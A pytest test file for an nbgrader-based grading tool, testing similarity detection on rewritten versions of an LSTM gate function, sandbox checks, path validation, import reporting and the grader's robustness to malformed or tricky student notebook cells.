@pytest.mark.parametrize("name", sorted(names()))
def test_words_stay_alike_if_each_fourth_one_is_changed(name):
    texts = list(rubrics(name).values())
    for change in ("{}q", "really {}"):
        ours, theirs = set(), set()
        for text in texts:
            copied = text.split()
            copied[::4] = map(change.format, copied[::4])
            ours |= similar.rows_of(new_markdown_cell(text))["words"]
            theirs |= similar.rows_of(new_markdown_cell(" ".join(copied)))["words"]
        assert similar.share(ours, theirs) >= 60


def is_code_answer(cell):
    return cell.cell_type == "code" and cell.metadata.get("nbgrader", {}).get(
        "solution"
    )


@pytest.mark.skipif(not has_bubblewrap(), reason="needs bubblewrap")
def test_nothing_is_graded_that_submissions_could_read(tmp_path, monkeypatch, capsys):
    """A course below /usr, say: all of that folder can be seen inside."""
    (tmp_path / "ada").mkdir()
    nbformat.write(new_notebook(), tmp_path / "ada" / f"{NAME}.ipynb")
    seen = sandbox.readable() | {str(tmp_path): "/usr/local"}
    monkeypatch.setattr(sandbox, "readable", lambda: seen)
    monkeypatch.setattr("sys.argv", ["grading", "grade", str(tmp_path)])
    assert main() == 1
    assert capsys.readouterr().err.startswith(f"{tmp_path}: submissions can read all")
    assert not tmp_path.with_name(f"{tmp_path.name}-graded").exists()


def test_a_path_that_would_stop_nbgrader_is_refused(tmp_path, monkeypatch, capsys):
    for name in ("week [1]", "50%"):
        command = ["grading", "grade", "--unsafe", str(tmp_path), "--out"]
        monkeypatch.setattr("sys.argv", [*command, str(tmp_path / name / "out")])
        assert main() == 1
        assert "expected a path without * ? [ ] %" in capsys.readouterr().err
    folder = tmp_path / "week.1%"  # its point is no end of a file's name
    folder.mkdir()
    monkeypatch.setattr("sys.argv", ["grading", "grade", "--unsafe", str(folder)])
    assert main() == 1
    assert capsys.readouterr().err.splitlines()[-1].startswith(f"{folder}-graded: ")


@pytest.mark.parametrize(("rows", "drawn"), [(600, True), (700, False)])
def test_a_table_of_thousands_of_cells_is_shown_as_it_was_written(rows, drawn):
    table = "|a|b|\n|-|-|\n" + "|1|2|\n" * rows
    assert ("<td>" in harmless.harmless_text(table)) == drawn


WORDS = "### BEGIN HIDDEN TESTS"
BLAMING = {  # what a student adds: nbgrader or a file gave up there
    "code": new_code_cell(f"{WORDS}\nx = 1"),
    "words": new_markdown_cell(f"```\n{WORDS}\n```"),
    "text for a name": new_code_cell("1", metadata={"nbgrader": "x"}),
    "list for a name": new_code_cell("1", metadata={"nbgrader": {"grade_id": ["a"]}}),
    "half a sign": new_code_cell("# HALF"),
}


@pytest.mark.skipif(not has_bubblewrap(), reason="needs bubblewrap")
def test_no_notebook_makes_the_machine_look_at_fault(tmp_path):
    """That stands in problems.csv, and an instructor is told to believe it."""
    notebook = signed(SOURCE / NAME / f"{NAME}.ipynb")
    for cell in notebook.cells:
        cell.source = cell.source.partition(WORDS)[0]
    notebook.cells[5:5] = BLAMING.values()
    path = tmp_path / "in" / "ada" / f"{NAME}.ipynb"
    path.parent.mkdir(parents=True)
    path.write_text(nbformat.writes(notebook).replace("HALF", "\\ud800"), "utf-8")
    (result,) = grade.grade_folder(tmp_path / "in", tmp_path / "out", jobs=1)
    assert result["problem"] is None
    assert sum(cell["points"] or 0 for cell in result["cells"].values()) == 15
    page = tmp_path / "out" / "done" / "ada" / NAME / "feedback" / f"{NAME}.html"
    assert page.read_text("utf-8").count("BEGIN HIDDEN TESTS") == 2  # the student's


ONE = """
def gate(W, b, a_prev, x_t):
    joined = np.concatenate([a_prev, x_t], axis=1)
    z = joined @ W.T + b
    return lc.sigmoid(z)
"""


def nested(depth):
    """The same inside of conditions."""
    code = [" " * k + "if 1:" for k in range(depth)]
    return "\n".join(code + [" " * depth + line for line in ONE.splitlines()])


many = 300 * "elif 0: pass\n"
OTHERWISE = {
    "steps more": """
def gate(W, b, a_prev, x_t):
    two = [a_prev, x_t]
    joined = np.concatenate(two, axis=1)
    T = W.T
    z = joined @ T
    z2 = z + b
    result = lc.sigmoid(z2)
    return result
""",
    "steps less": """
def gate(W, b, a_prev, x_t):
    return lc.sigmoid(np.concatenate([a_prev, x_t], axis=1) @ W.T + b)
""",
    "a lambda": """
gate = lambda W, b, a, x: lc.sigmoid(np.concatenate([a, x], axis=1) @ W.T + b)
""",
    "the other order": """
def gate(W, b, a_prev, x_t):
    z = b + np.concatenate([a_prev, x_t], axis=1) @ W.T
    return lc.sigmoid(z)
""",
    "bytes": f"exec(b'''{ONE}''')",
    "a huge number": f"{ONE}    _ = 0x{4000 * 'f'}",
    "a long sum": f"{ONE}    _ = {900 * '0+'}0",
    "another name for all": ONE.replace(" = ", " = _ = "),
    "another name before": ONE.replace("    z =", "    again = z ="),
    "all names of the packages": re.sub(r"np\.|lc\.", "", ONE),
    "conditions in one another": nested(58),
    "one of many conditions": f"if 0: pass\n{many}else:\n{nested(1)[6:]}",
    "lines between": re.sub(r"( = .*)", r"\1; pass; z; None; print()", ONE),
    "signs": ONE.replace("= ", "= +"),
    "signs below deep lists": 6 * f"x = {80 * '['}x{80 * ']'}\n"
    + ONE.replace("+ b", "+ + b"),
    "sums with nothing": ONE.replace(" + ", " +0+ ").replace("= ", "= 1*", 1),
    "all of something": ONE.replace(".T", "[...].T.T.T"),
    "a sum with a name": ONE.replace(" + b", " + b + o").replace(
        "    z", "    o = 0\n    z"
    ),
    "the name of an argument for all": """
def gate(W, b, a_prev, x_t):
    x_t = np.concatenate([a_prev, x_t], axis=1)
    x_t = x_t @ W.T
    x_t += b
    return lc.sigmoid(x_t)
""",
    "one name for all": re.sub(r"\b(joined|z)\b", "t", ONE),
    "two at once": ONE.replace("z = ", "z, k = ").replace("+ b", "+ b, 1"),
    "a sum in steps": ONE.replace("@ W.T + b", "@ W.T\n    z += b"),
    "names in brackets": re.sub(r"(\w+) = (.*)", r"(\1 := \2)", ONE),
    "a list of all names": """
def gate(W, b, a_prev, x_t):
    v = [W, b, a_prev, x_t, 0, 0]
    v[4] = np.concatenate([v[2], v[3]], axis=1)
    v[5] = v[4] @ v[0].T + v[1]
    return lc.sigmoid(v[5])
""",
    "numbers with points": ONE.replace("=1", "=1.0").replace("+ b", "- -b"),
    "names in a class": re.sub(r"(joined|z)\b", r"kept.\1", ONE),
}


@pytest.mark.parametrize("kind", OTHERWISE)
def test_likeness_sees_code_in_one_form(kind):
    found = similar.rows_of(new_code_cell(OTHERWISE[kind]))["code"]
    assert similar.rows_of(new_code_cell(ONE))["code"] <= found


def test_one_form_of_code_is_not_much_longer_than_the_code():
    many = "a, " * 60_000
    for value in ('"' + 20_000 * "x" + '"', "x" + 300 * ".more"):
        code = f"a = {value}\nb = [{many}]"
        assert len(one_form.as_python(code)) < 2 * len(code)
        assert len(one_form.as_python(f"c = 1\nb = [c, c]\n{code}")) < 2 * len(code)
    assert one_form.as_python("a = 0.5\nb = a * a") == "b = 0.5 * 0.5"
    read_above = "print(a)\na = f(b)"
    assert one_form.as_python(read_above) == read_above


def test_a_package_that_the_task_does_not_name_is_told_to_the_instructor():
    codes = [
        "%matplotlib inline\n!ls\nimport torch.nn as nn\nfrom scipy import special",
        "def (",
    ]
    codes.append("import numpy, math\nfrom lstm_core import cells\nfrom . import x")
    notebook = new_notebook(cells=[new_code_cell(code) for code in codes])
    ((what, _),) = problems.other_packages(notebook)
    assert what.startswith("imports scipy, torch; the task names ")
    inside = new_code_cell("from lstm_core.pytorch.model import import_torch")
    ((what, _),) = problems.other_packages(new_notebook(cells=[inside]))
    assert what.startswith("imports torch; ")
    assert problems.other_packages(new_notebook(cells=notebook.cells[1:])) == []


@pytest.mark.skipif(not has_bubblewrap(), reason="needs bubblewrap")
def test_a_cell_of_ours_that_is_stopped_is_no_fault_of_an_answer(tmp_path):
    slow = "import sys, time\nclass Slow:\n    find_spec = lambda *_: time.sleep(99)"
    notebook = signed(SOURCE / NAME / f"{NAME}.ipynb")
    notebook.cells.insert(0, new_code_cell(f"{slow}\nsys.meta_path.insert(0, Slow)"))
    path = tmp_path / "in" / "ada" / f"{NAME}.ipynb"
    path.parent.mkdir(parents=True)
    nbformat.write(notebook, path)
    few = limits.Limits(cell=1, call=1, total=8)
    places = tmp_path / "in", tmp_path / "out"
    (result,) = grade.grade_folder(*places, jobs=1, limits=few)
    assert result["problem"].startswith("setup and given: stopped, though")
    report.report(tmp_path / "out", [result])
    with (tmp_path / "out" / "grades.csv").open(encoding="utf-8-sig") as table:
        assert [row["mark"] for row in csv.DictReader(table)] == [""]


DROP = """
def drop(lines):
    return lines[1:] if lines[0].startswith("'''") else lines
get_ipython().input_transformers_cleanup.append(drop)
"""


@pytest.mark.skipif(not has_bubblewrap(), reason="needs bubblewrap")
def test_cells_that_are_no_python_are_pointed_out(tmp_path):
    notebook = signed(SOURCE / NAME / f"{NAME}.ipynb")
    answer = find(notebook, "gate")
    answer.source = "'''\n" + answer.source
    more = [new_code_cell(code) for code in (DROP, "%time 1", "await 1", "def (")]
    notebook.cells[0:0] = more
    path = tmp_path / "in" / "ada" / f"{NAME}.ipynb"
    path.parent.mkdir(parents=True)
    nbformat.write(notebook, path)
    (result,) = grade.grade_folder(tmp_path / "in", tmp_path / "out", jobs=1)
    assert result["cells"]["gate-batch"]["points"] > 0
    place = 1 + notebook.cells.index(answer)
    ((what, _),) = result["notes"]
    assert what == f"no Python: code cells at 4, {place} of all cells"
